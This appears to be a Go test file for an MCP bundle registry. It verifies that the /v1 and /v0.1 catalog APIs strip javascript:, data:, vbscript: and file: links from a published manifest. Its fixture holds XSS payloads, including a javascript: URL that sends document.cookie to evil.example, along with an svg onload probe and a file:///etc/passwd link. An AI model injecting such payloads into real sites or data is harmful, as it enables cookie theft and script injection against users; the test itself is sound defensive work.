package api

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"oras.land/oras-go/v2/registry/remote"

	"github.com/mpak-oci/mpak/catalogapi"
	"github.com/mpak-oci/mpak/mcpb"
	"github.com/mpak-oci/mpak/mcpb/mcpbtest"
	"github.com/mpak-oci/mpak/mediatypes"
	"github.com/mpak-oci/mpak/oci/bundle"
	"github.com/mpak-oci/mpak/registry/catalog/sqlite"
	"github.com/mpak-oci/mpak/registry/embedded"
	"github.com/mpak-oci/mpak/registry/ingest"
)

// hostileManifest links every address field to script or other non-web
// schemes, next to one web link and one bundle path that must survive.
const hostileManifest = `{
  "manifest_version": "0.3", "name": "hostile", "version": "1.0.0",
  "description": "Links everywhere",
  "author": {"name": "Mallory", "url": "javascript:fetch('//evil.example/'+document.cookie)"},
  "repository": {"type": "git", "url": "JavaScript:alert(1)"},
  "homepage": "javascript:alert(document.domain)",
  "documentation": "data:text/html,<script>alert(1)</script>",
  "support": "vbscript:msgbox(1)",
  "icon": "file:///etc/passwd",
  "icons": [{"src": "javascript:alert(1)", "size": "16x16"}, {"src": "icon.png", "size": "32x32"}],
  "screenshots": ["data:image/svg+xml,<svg/onload=alert(1)>", "shot.png"],
  "privacy_policies": ["https://example.com/privacy", "javascript:alert(2)"],
  "server": {"type": "node", "entry_point": "server/index.js",
    "mcp_config": {"command": "node", "args": ["${__dirname}/server/index.js"]}},
  "tools": [{"name": "echo", "description": "Echo"}]
}`

// notWeb matches what no answer may carry: a non-http(s) scheme the
// hostile manifest used, in any case.
var notWeb = regexp.MustCompile(`(?i)(javascript|vbscript|data|file):`)

// TestAPIsPublishOnlyWebLinks publishes a bundle whose manifest links to
// javascript:, data:, vbscript: and file: addresses to a real in-process
// registry with `mpak bundle push`'s code, indexes it as mpakd does, and
// reads it back through /v1 and /v0.1: no answer carries any of them, and
// the web link and bundle paths beside them are still there.
func TestAPIsPublishOnlyWebLinks(t *testing.T) {
	ctx := context.Background()
	reg, err := embedded.New(ctx, embedded.Options{})
	if err != nil {
		t.Fatal(err)
	}
	regSrv := httptest.NewServer(reg)
	t.Cleanup(func() { regSrv.Close(); reg.Close() })

	dir := t.TempDir()
	mcpbtest.WriteSource(t, dir, "hostile", "1.0.0", map[string]string{"manifest.json": hostileManifest,
		"icon.png": "png", "shot.png": "png"})
	file := filepath.Join(t.TempDir(), "hostile-1.0.0.mcpb")
	if _, err := mcpb.PackFile(dir, file, mcpb.PackOptions{}); err != nil {
		t.Fatal(err)
	}
	plan, err := bundle.Prepare([]bundle.File{{Path: file, Platform: mediatypes.AnyPlatform}}, bundle.PrepareOptions{})
	if err != nil {
		t.Fatal(err)
	}
	repo, err := remote.NewRepository(strings.TrimPrefix(regSrv.URL, "http://") + "/acme/hostile")
	if err != nil {
		t.Fatal(err)
	}
	repo.PlainHTTP = true
	if _, err := bundle.Push(ctx, repo, plan, "1.0.0", bundle.PushOptions{}); err != nil {
		t.Fatal(err)
	}

	store, err := sqlite.Open(":memory:")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	if err := (&ingest.Indexer{Store: store, Repos: reg}).Tag(ctx, "acme/hostile", "1.0.0"); err != nil {
		t.Fatal(err)
	}
	// The catalog keeps what was published: the filter is in what is served.
	stored, err := store.Version(ctx, "acme/hostile", "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	if !notWeb.Match(stored.Manifest) || !notWeb.MatchString(stored.Homepage) || !notWeb.MatchString(stored.Annotations["org.opencontainers.image.url"]) {
		t.Fatalf("the catalog did not record the hostile links, so this test proves nothing: %s", stored.Manifest)
	}

	a := newAPI(Options{Store: store, PublicHost: testHost})
	a.now = func() time.Time { return today }
	srv := httptest.NewServer(a.routes())
	t.Cleanup(srv.Close)
	f := &fixture{store: store, srv: srv}

	var list serverList
	f.getJSON(t, "/v0.1/servers", http.StatusOK, &list)
	if len(list.Servers) != 1 {
		t.Fatalf("/v0.1/servers lists %d servers, want 1", len(list.Servers))
	}
	server := url.PathEscape(list.Servers[0].Server.Name)
	paths := []string{
		"/v1/bundles/@acme/hostile",
		"/v1/bundles/@acme/hostile/versions",
		"/v1/bundles/@acme/hostile/versions/1.0.0",
		"/v1/bundles/search?q=hostile",
		"/v0.1/servers",
		"/v0.1/servers/" + server + "/versions",
		"/v0.1/servers/" + server + "/versions/1.0.0",
		"/v0/servers/" + server + "/versions/latest",
	}
	for _, p := range paths {
		resp, body := f.get(t, p)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d %s", p, resp.StatusCode, body)
		}
		if m := notWeb.Find(body); m != nil {
			t.Errorf("GET %s carries %q: %s", p, m, body)
		}
	}

	var d catalogapi.VersionDetail
	f.getJSON(t, "/v1/bundles/@acme/hostile/versions/1.0.0", http.StatusOK, &d)
	if d.Homepage != "" || d.SourceURL != "" {
		t.Errorf("homepage %q, source_url %q: want both left out", d.Homepage, d.SourceURL)
	}
	for _, k := range []string{"org.opencontainers.image.url", "org.opencontainers.image.documentation", "org.opencontainers.image.source"} {
		if v, ok := d.Annotations[k]; ok {
			t.Errorf("annotation %s = %v, want it left out", k, v)
		}
	}
	m, _ := json.Marshal(d.Manifest)
	for _, want := range []string{`"privacy_policies":["https://example.com/privacy"]`, `"screenshots":["shot.png"]`,
		`"icons":[{"size":"32x32","src":"icon.png"}]`, `"author":{"name":"Mallory"}`, `"repository":{"type":"git"}`} {
		if !strings.Contains(string(m), want) {
			t.Errorf("manifest lacks %s: %s", want, m)
		}
	}
	for _, gone := range []string{"homepage", "documentation", "support", "icon"} {
		if _, ok := d.Manifest[gone]; ok {
			t.Errorf("manifest keeps %s: %s", gone, m)
		}
	}
}

// TestSafeManifestKeepsCleanBytes: a manifest with only web links is served
// byte for byte as published.
func TestSafeManifestKeepsCleanBytes(t *testing.T) {
	raw := []byte(`{"name":"n","homepage":"https://example.com","repository":{"type":"git","url":"git+https://example.com/r.git"},"icon":"icon.png","n":1.50}`)
	if got := safeManifest(raw); string(got) != string(raw) {
		t.Errorf("safeManifest changed a clean manifest:\n%s\n%s", raw, got)
	}
}
